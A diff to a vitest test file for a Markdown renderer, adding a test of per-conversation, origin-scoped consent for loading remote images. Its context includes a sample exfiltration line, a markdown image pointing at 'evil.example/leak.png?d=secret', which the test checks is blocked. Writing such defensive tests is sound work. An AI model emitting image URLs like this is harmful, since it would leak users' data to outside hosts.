@@ -3,7 +3,7 @@ import fc from 'fast-check';
 import { afterEach, describe, expect, it } from 'vitest';
 import { Markdown } from './markdown.js';
 import { INLINE_BUDGET, TABLE_BUDGET } from './markdown-node.js';
-import { AllowedImageOriginsContext } from '../media/media-policy.js';
+import { AllowedImageOriginsContext, createHostConsent, HostConsentContext } from '../media/media-policy.js';
 
 afterEach(cleanup);
 
@@ -167,6 +167,33 @@ describe('Markdown', () => {
     view.rerender(<Markdown text="![chart](https://evil.example/leak.png?d=secret)" complete />);
     expect(view.container.querySelector('img')).toBeNull();
     expect(view.getByRole('button', { name: 'Load image from evil.example' })).toBeTruthy();
+  });
+
+  it('"always load from host in this conversation" loads every image of that origin, now and later; other origins still ask', () => {
+    const text = '![a](https://cdn.example/a.png) ![b](https://cdn.example:443/b.png?x=1) ![c](https://evil.example/c.png) ![d](http://cdn.example/d.png)';
+    // Without a conversation's consent (a bare Markdown), only the one-URL button is offered.
+    const bare = render(<Markdown text={text} />);
+    expect(bare.queryAllByRole('button', { name: /^Always load/ })).toHaveLength(0);
+    cleanup();
+    const consent = createHostConsent();
+    const view = render(
+      <HostConsentContext.Provider value={consent}>
+        <Markdown text={text} />
+      </HostConsentContext.Provider>,
+    );
+    fireEvent.click(view.getAllByRole('button', { name: 'Always load from cdn.example in this conversation' })[0]!);
+    // The origin (scheme, host, port): https://cdn.example's two images load; http://cdn.example and evil.example ask.
+    expect([...view.container.querySelectorAll('img')].map((image) => image.getAttribute('src'))).toEqual(['https://cdn.example/a.png', 'https://cdn.example:443/b.png?x=1']);
+    expect(view.getByRole('button', { name: 'Load image from evil.example' })).toBeTruthy();
+    expect(consent.has('https://cdn.example')).toBe(true);
+    expect(consent.has('http://cdn.example')).toBe(false);
+    // A later image of that origin (a final message replacing the text) loads with no prompt.
+    view.rerender(
+      <HostConsentContext.Provider value={consent}>
+        <Markdown text="![e](https://cdn.example/e.png)" complete />
+      </HostConsentContext.Provider>,
+    );
+    expect(view.container.querySelector('img')?.getAttribute('src')).toBe('https://cdn.example/e.png');
   });
 
   it('a table past its budget (3,000 columns) shows as text with a note; one within it renders as a table', () => {
